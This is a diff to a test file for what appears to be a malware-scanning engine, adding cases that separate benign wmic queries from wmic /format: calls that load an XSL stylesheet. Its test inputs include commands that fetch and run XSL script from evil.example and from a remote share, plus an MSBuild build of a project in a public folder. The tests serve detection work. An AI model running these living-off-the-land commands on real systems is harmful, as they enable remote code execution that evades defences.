@@ -80,6 +80,18 @@ describe('ml on partial coverage', () => {
       }
     });
 
+    it('does not judge wmic reading in its own formats, but does judge /format: naming a stylesheet (an XSL script run)', async () => {
+      for (const read of ['wmic process get name,processid /format:csv', 'wmic os get caption,version /format:list', 'wmic logicaldisk get caption,freespace /format:table']) {
+        expect([read, judgeableShortText(read)]).toEqual([read, false]);
+      }
+      for (const xsl of ['wmic process get brief /format:"https://evil.example/x.xsl"', 'wmic os get /format:"\\\\10.0.0.5\\share\\evil.xsl"', 'wmic process list /format:C:\\Users\\Public\\a.xsl', 'wmic /node:host process get name /format:evil']) {
+        expect([xsl, judgeableShortText(xsl)]).toEqual([xsl, true]);
+      }
+      const r = await analyze({ content: Buffer.from('wmic process get brief /format:"https://evil.example/x.xsl"\n'), name: 'x.bat', scanType: 'file' }, deps);
+      expect(r.engines.static_script.findings.map((f) => f.id)).toContain('script.technique.lolbin.wmic_xsl');
+      expect(r.engines.ml.findings.map((f) => f.id)).toEqual(['ml.text.malicious']);
+    });
+
     it('an MSBuild build of a project in a temp or public folder is still Suspicious, by the rules', async () => {
       const r = await analyze({ content: Buffer.from('msbuild.exe C:\\Users\\Public\\evil.csproj /t:Build\n'), name: 'x.bat', scanType: 'file' }, deps);
       expect(r.safetyScore.threatLevel).toBe('Suspicious');
